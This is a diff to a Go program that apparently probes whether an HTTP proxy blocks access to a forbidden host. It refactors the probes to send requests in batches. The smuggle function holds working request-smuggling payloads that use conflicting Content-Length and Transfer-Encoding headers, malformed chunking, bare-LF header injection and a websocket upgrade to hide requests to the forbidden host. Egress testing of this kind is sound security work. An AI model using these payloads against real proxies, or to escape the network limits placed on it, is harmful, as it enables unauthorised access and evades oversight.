@@ -18,13 +18,13 @@ func asks(name, tried string, texts func(allowed, forbidden, port string) []stri
 	return probe{name, tried, func(h *hunter) (string, bool) {
 		forbidden := os.Getenv("AIM_FORBIDDEN")
 		_, port, _ := net.SplitHostPort(forbidden)
+		answers, err := h.all(texts(os.Getenv("AIM_ALLOWED"), forbidden, port))
+		if err != nil {
+			return "no proxy: " + short(err), false
+		}
 		var got []string
 		open := false
-		for _, text := range texts(os.Getenv("AIM_ALLOWED"), forbidden, port) {
-			answer, err := h.through(text)
-			if err != nil {
-				return "no proxy: " + short(err), false
-			}
+		for _, answer := range answers {
 			s := status(answer)
 			open = open || strings.HasPrefix(s, "2")
 			got = append(got, s)
@@ -139,19 +139,19 @@ func smuggle(h *hunter) (string, bool) {
 	allowed, forbidden := os.Getenv("AIM_ALLOWED"), os.Getenv("AIM_FORBIDDEN")
 	hidden := "GET http://" + forbidden + "/smuggled HTTP/1.1\r\nHost: " + forbidden + "\r\n\r\n"
 	inner := "GET /smuggled HTTP/1.1\r\nHost: " + allowed + "\r\n\r\n"
-	var got []string
-	for _, text := range []string{
+	answers, err := h.all([]string{
 		"GET http://" + allowed + "/ HTTP/1.1\r\nHost: " + allowed + "\r\n\r\n" + hidden,
 		"POST http://" + allowed + "/ HTTP/1.1\r\nHost: " + allowed + "\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
 		"POST http://" + allowed + "/ HTTP/1.1\r\nHost: " + allowed + "\r\nContent-Length: 0\r\nContent-Length: " + fmt.Sprint(len(inner)) + "\r\n\r\n" + inner,
 		"POST http://" + allowed + "/ HTTP/1.1\r\nHost: " + allowed + "\r\nTransfer-Encoding: xchunked\r\n\r\n" + inner,
 		"GET http://" + allowed + "/ HTTP/1.1\r\nHost: " + allowed + "\r\nX: a\nGET /smuggled HTTP/1.1\r\n\r\n",
 		"GET http://" + allowed + "/ HTTP/1.1\r\nHost: " + allowed + "\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n" + inner,
-	} {
-		answer, err := h.through(text)
-		if err != nil {
-			return "no proxy: " + short(err), false
-		}
+	})
+	if err != nil {
+		return "no proxy: " + short(err), false
+	}
+	var got []string
+	for _, answer := range answers {
 		got = append(got, fmt.Sprintf("%s (%d answers)", status(answer), strings.Count(answer, "HTTP/1.")))
 	}
 	return strings.Join(got, "; "), false
